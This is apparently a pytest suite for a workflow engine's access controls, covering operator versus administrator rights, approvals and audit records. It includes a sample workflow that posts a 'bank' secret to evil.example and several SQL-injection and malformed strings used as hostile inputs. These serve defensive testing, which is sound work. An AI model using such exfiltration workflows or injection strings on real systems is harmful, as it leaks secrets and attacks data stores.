"""An operator runs what an administrator has applied: no text of his own, no version that was replaced, no decision
that was not his."""

from __future__ import annotations

from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor

import httpx
import pytest
from tests.access.people import CHEAP, make
from tests.api.conftest import ECHO, until
from tests.api.hosting import Served

from omnicore.access.principal import Role
from omnicore.config.settings import AccessSettings

STEALS = """use: {secrets: [bank]}
do:
  - send: {call: http, with: {method: post, endpoint: 'https://evil.example', body: '${ $secrets.bank }'}}
"""
PAYS = """do:
  - ask: {host: {approval: {title: Pay?, role: admin}}}
  - pay: {set: {paid: true}}
  - fails: {raise: {error: {type: 'https://example.com/broken', status: 500}}}
"""


@pytest.fixture(scope="module")
def people(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[Role, httpx.Client]]:
    with Served(tmp_path_factory.mktemp("site"), {"echo.wat": ECHO}, access=AccessSettings(**CHEAP)) as served:
        access = served.host.access
        clients = {}
        for role in (Role.viewer, Role.operator, Role.admin):
            key = access.tokens.add("t", owner=make(access, role.name, role).id, role=Role.admin)[1]
            headers = {"authorization": f"Bearer {key}"}
            clients[role] = httpx.Client(base_url=served.url, headers=headers, timeout=30)
        yield clients
        for client in clients.values():
            client.close()


@pytest.fixture
def operator(people: dict[Role, httpx.Client]) -> httpx.Client:
    return people[Role.operator]


@pytest.fixture
def admin(people: dict[Role, httpx.Client]) -> httpx.Client:
    return people[Role.admin]


def text(name: str, body: str) -> dict[str, str]:
    return {"text": f"document: {{dsl: 1.0.3, namespace: default, name: {name}, version: 1.0.0}}\n{body}"}


def applied(admin: httpx.Client, name: str, body: str) -> str:
    answer = admin.put(f"/api/v1/workflows/{name}", json=text(name, body))
    assert answer.status_code == 200, answer.text
    return f"/api/v1/workflows/{name}"


def ended(client: httpx.Client, at: str, **order: object) -> dict[str, object]:
    answer = client.post(f"{at}/runs", json={"wait_s": 30, **order})
    assert answer.status_code == 200, answer.text
    return answer.json()


def decided(operator: httpx.Client, admin: httpx.Client, at: str) -> str:
    """A run that an administrator has approved and that has ended."""
    run = operator.post(f"{at}/runs", json={}).json()["id"]
    until(lambda: operator.get(f"/api/v1/runs/{run}/open").json()["items"])
    said = {"place": "/do/0/ask", "approve": True}
    assert operator.post(f"/api/v1/runs/{run}/approvals", json=said).status_code == 403
    assert admin.post(f"/api/v1/runs/{run}/approvals", json=said).status_code == 204
    until(lambda: operator.get(f"/api/v1/runs/{run}").json()["status"] in ("completed", "faulted"))
    return run


def test_a_text_that_is_not_applied_is_run_for_administrators_only(operator: httpx.Client, admin: httpx.Client) -> None:
    at = applied(admin, "plain", "do:\n  - a: {set: {n: 1}}")
    for body in (STEALS, "do:\n  - a: {set: {n: 1}}"):
        assert operator.post(f"{at}/trial", json=text("plain", body)).status_code == 403
    assert admin.post(f"{at}/trial", json=text("plain", "do:\n  - a: {set: {n: 2}}")).status_code == 202


def test_an_operator_does_not_run_a_trial_again_with_an_input_of_his_own(
    operator: httpx.Client, admin: httpx.Client
) -> None:
    at = applied(admin, "tried", "do:\n  - a: {set: {n: 1}}")
    body = {
        **text(
            "tried",
            "do:\n  - a: {set: '${ . }'}\n  - b: {raise: {error: {type: 'https://example.com/broken', status: 500}}}",
        )
    }
    run = admin.post(f"{at}/trial", json={**body, "wait_s": 30}).json()
    assert run["status"] == "faulted"
    for again, order in (("retry", {}), ("fork", {"seq": 1}), ("fork", {"seq": 1, "input": {"mine": 1}})):
        assert operator.post(f"/api/v1/runs/{run['id']}/{again}", json=order).status_code == 403
        assert admin.post(f"/api/v1/runs/{run['id']}/{again}", json=order).status_code == 201


def test_a_version_that_was_replaced_is_run_for_administrators_only(
    operator: httpx.Client, admin: httpx.Client
) -> None:
    at = applied(admin, "mended", "do:\n  - leak: {set: {all: '${ . }'}}")
    old = ended(operator, at, input={"a": 1})["id"]
    applied(admin, "mended", "do:\n  - tight: {set: {n: 2}}")
    assert operator.post(f"{at}/runs", json={"number": 1}).status_code == 403
    assert operator.post(f"{at}/runs", json={"number": 2}).status_code == 202
    assert admin.post(f"{at}/runs", json={"number": 1}).status_code == 202
    for order in ({"seq": 0}, {"seq": 1}, {"seq": 1, "input": {"b": 2}}):
        assert operator.post(f"/api/v1/runs/{old}/fork", json=order).status_code == 403
    assert operator.post(f"/api/v1/runs/{old}/retry", json={"place": "/do/0/leak"}).status_code == 403


def test_a_decision_of_somebody_higher_counts_once(operator: httpx.Client, admin: httpx.Client) -> None:
    at = applied(admin, "pays", PAYS)
    run = decided(operator, admin, at)
    rows = operator.get(f"/api/v1/runs/{run}/steps").json()["items"]
    behind = next(one["seq"] for one in rows if one["name"] == "ask")
    assert operator.post(f"/api/v1/runs/{run}/fork", json={"seq": behind}).status_code == 403
    assert operator.post(f"/api/v1/runs/{run}/retry", json={"place": "/do/1/pay"}).status_code == 403
    before = operator.post(f"/api/v1/runs/{run}/retry", json={"place": "/do/0/ask"})
    assert before.status_code == 201
    until(lambda: operator.get(f"/api/v1/runs/{before.json()['id']}/open").json()["items"])
    assert operator.get(f"/api/v1/runs/{before.json()['id']}").json()["status"] in ("running", "waiting")
    assert admin.post(f"/api/v1/runs/{run}/fork", json={"seq": behind}).status_code == 201


@pytest.mark.parametrize("gone", ["disable", "remove"])
def test_what_is_switched_off_or_removed_is_not_begun_from_its_old_runs(
    operator: httpx.Client, admin: httpx.Client, gone: str
) -> None:
    at = applied(
        admin, f"gone-{gone}", "do:\n  - a: {raise: {error: {type: 'https://example.com/broken', status: 500}}}"
    )
    run = ended(operator, at)["id"]
    answer = admin.delete(at) if gone == "remove" else admin.post(f"{at}/disable")
    assert answer.is_success
    for again, order in (("retry", {}), ("fork", {"seq": 0}), ("fork", {"seq": 0, "input": 1})):
        for person in (operator, admin):
            assert person.post(f"/api/v1/runs/{run}/{again}", json=order).status_code in (404, 409)
    assert operator.get(f"/api/v1/runs/{run}").json()["status"] == "faulted"


def test_two_decisions_at_once_are_one(operator: httpx.Client, admin: httpx.Client) -> None:
    at = applied(admin, "asked", PAYS.replace("role: admin", "role: operator").rpartition("  - fails")[0])
    run = operator.post(f"{at}/runs", json={}).json()["id"]
    until(lambda: operator.get(f"/api/v1/runs/{run}/open").json()["items"])

    def decide(approve: bool) -> int:
        said = {"place": "/do/0/ask", "approve": approve}
        return admin.post(f"/api/v1/runs/{run}/approvals", json=said).status_code

    with ThreadPoolExecutor(6) as pool:
        answers = list(pool.map(decide, [True, False] * 3))
    assert answers.count(204) == 1
    assert set(answers) <= {204, 404, 409}
    until(lambda: operator.get(f"/api/v1/runs/{run}").json()["status"] == "completed")
    rows = operator.get(f"/api/v1/runs/{run}/steps").json()["items"]
    assert [one["name"] for one in rows] == ["ask", "pay"]


def test_a_decision_is_for_the_place_that_asks_and_no_other(operator: httpx.Client, admin: httpx.Client) -> None:
    at = applied(admin, "one-place", PAYS.replace("role: admin", "role: operator"))
    run = operator.post(f"{at}/runs", json={}).json()["id"]
    until(lambda: operator.get(f"/api/v1/runs/{run}/open").json()["items"])
    for place in ("/do/1/pay", "/do/0", "", "/do/0/ask~2", "\u202e", "x" * 5000, "/do/0/ask\0", "'; DROP TABLE x; --"):
        answer = operator.post(f"/api/v1/runs/{run}/approvals", json={"place": place, "approve": True})
        assert answer.status_code in (404, 422), (place[:20], answer.text)
    operator.post(f"/api/v1/runs/{run}/cancel")


def test_everything_that_changes_something_is_in_the_record(operator: httpx.Client, admin: httpx.Client) -> None:
    at = applied(admin, "noted", "do:\n  - a: {raise: {error: {type: 'https://example.com/broken', status: 500}}}")
    run = ended(operator, at)["id"]
    operator.post(f"/api/v1/runs/{run}/retry", json={})
    operator.post(f"/api/v1/runs/{run}/fork", json={"seq": 0, "input": {"secret": "of a customer"}})
    slow = applied(admin, "noted-too", "do:\n  - a: {wait: {hours: 1}}")
    waits = operator.post(f"{slow}/runs", json={}).json()["id"]
    assert operator.post(f"/api/v1/runs/{waits}/cancel").status_code == 200
    admin.post(f"{at}/trial", json={**text("noted", "do:\n  - a: {set: {n: 1}}"), "input": "of a customer"})
    admin.post(f"{at}/disable")
    admin.delete(at)
    rows = admin.get("/api/v1/audit?limit=500").json()["items"]
    seen = {one["action"] for one in rows}
    for action in ("changeWorkflow", "startRun", "retryRun", "forkRun", "cancelRun", "startTrial", "disableWorkflow"):
        assert any(action in one for one in seen), (action, sorted(seen))
    assert any("removeWorkflow" in one for one in seen)
    assert "of a customer" not in str(rows)
